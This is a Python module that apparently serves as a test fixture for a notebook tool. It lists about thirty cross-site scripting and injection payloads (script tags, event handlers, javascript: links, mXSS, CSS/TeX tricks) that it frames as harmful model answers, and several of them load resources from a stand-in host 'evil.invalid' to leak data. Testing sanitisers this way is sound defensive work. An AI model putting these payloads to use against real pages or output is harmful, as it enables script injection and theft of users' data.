"""Model answers that could do harm in a notebook. `EVIL` is the address for stolen data."""

from __future__ import annotations

EVIL = "http://evil.invalid"

PAYLOADS = [
    "<script>window.pwned('script')</script>",
    "<img src=x onerror=\"window.pwned('onerror')\">",
    "<svg onload=\"window.pwned('svg')\"><script>window.pwned('svg script')</script></svg>",
    "<iframe srcdoc=\"<script>parent.pwned('srcdoc')</script>\"></iframe>",
    f'<iframe src="{EVIL}/frame"></iframe>',
    "<details open ontoggle=\"window.pwned('ontoggle')\">x</details>",
    "[click me](javascript:window.pwned('link'))",
    "[click me](JaVaScRiPt&colon;window.pwned('link2'))",
    "<a href=\"java\tscript:window.pwned('tab')\">click me</a>",
    f"![image]({EVIL}/markdown.png?secret)",
    f'![image][ref]\n\n[ref]: {EVIL}/reference.png "title"',
    f'<img src="{EVIL}/html.png"><img srcset="{EVIL}/set.png 1x">',
    f'<div style="background:url({EVIL}/css.png)">x</div>',
    f"<style>@import '{EVIL}/import.css'; body {{ background: url({EVIL}/style.png) }}</style>",
    '<a data-commandlinker-command="help:about" data-commandlinker-args="{}" href="#">click me</a>',
    "<form action=\"javascript:window.pwned('form')\"><input autofocus onfocus=\"window.pwned('focus')\"></form>",
    f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    f'<base href="{EVIL}/"><a href="x">x</a>',
    f'<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    f'<link rel="stylesheet" href="{EVIL}/link.css"><link rel="prefetch" href="{EVIL}/prefetch">',
    f'<video src="{EVIL}/video" poster="{EVIL}/poster"></video><audio src="{EVIL}/audio" autoplay></audio>',
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=window.pwned('mxss')&gt;\">",
    "<template><script>window.pwned('template')</script></template><noscript><p title=\"</noscript><img src=x "
    "onerror=window.pwned('noscript')>\">",
    "```html\n</code></pre><script>window.pwned('fence')</script>\n```",
    "```\"><script>window.pwned('info')</script>\nx\n```",
    "`</code><script>window.pwned('code')</script>`",
    "| <script>window.pwned('cell')</script> |\n|---|\n| <img src=x onerror=window.pwned('td')> |",
    "<https://ok.example/\"onmouseover=\"window.pwned('autolink')>",
    f"[x]({EVIL}/ \"'onclick=window.pwned('title')\")",
    r"$\href{javascript:window.pwned('href')}{click me}$ $\style{background:url(" + EVIL + r"/tex.png)}{x}$",
    r"$\unicode{x3c}script>window.pwned('tex')$ \(<img src=x onerror=window.pwned('tex2')>\)",
    r"$\require{html}\class{x}{y}\cssId{z}{y}$ $\data{commandlinker-command=help:about}{x}$",
    "\\begin{x}</p><script>window.pwned('environment')</script>\\end{x}",
    "x\x00<scr\x00ipt>window.pwned('nul')</script>",
]
